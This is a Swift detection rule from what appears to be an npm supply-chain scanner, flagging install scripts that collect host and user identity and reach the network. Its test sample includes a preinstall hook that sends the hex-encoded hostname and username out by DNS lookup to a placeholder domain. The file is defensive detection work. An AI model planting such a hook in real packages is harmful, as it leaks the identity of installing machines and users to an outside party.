// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// What runs at install asks who and where it is, and reaches the network.
package struct InstallReportsHost: Rule {
    package init() {}

    package let card = RuleCard(
        id: "install-reports-host", kind: .content, title: "Install reports the machine it runs on", severity: .high, confidence: .medium,
        status: .stable, revision: 2, group: "install-behaviour",
        rationale: "Host, user and path sent at install are how dependency confusion is proved, by researchers and by thieves.",
        knownFalseAlarms: ["Install statistics of a vendor."],
        references: ["https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610"],
        fires: [
            RuleSample(
                "host and user by DNS",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"node index.js"}}"#,
                    "index.js":
                        "const os = require('os'), dns = require('dns'); dns.lookup(Buffer.from(os.hostname() + os.userInfo().username).toString('hex') + '.d.test', () => {});",
                ]))
        ],
        staysSilent: [
            RuleSample(
                "the host of an address",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"node i.js"}}"#,
                    "i.js": "const u = new URL(x); require('https').get({hostname: u.hostname, path: u.pathname});",
                ]))
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        let signs = facts.installSigns
        guard signs.contains(.hostIdentity), !signs.isDisjoint(with: .network) else { return [] }
        let collects = signs.contains(.dropHost) || signs.contains(.rawAddress)
        let encodes = signs.contains(.decodes) || signs.contains(.encodes)
        let several = facts.nearInstallFiles.contains { ($0.scan?.places[.hostIdentity]?.count ?? 0) >= 2 }
        return [
            card.finding(
                "Install asks for the machine's or user's name and reaches the network",
                strength: (collects ? 0.5 : 0) + (encodes ? 0.25 : 0) + (several ? 0.25 : 0),
                evidence: facts.installEvidence([.hostIdentity, .dropHost, .rawAddress] + Sign.reachingNetwork),
                meaning: "Somebody learns which machines and companies install this.")
        ]
    }
}
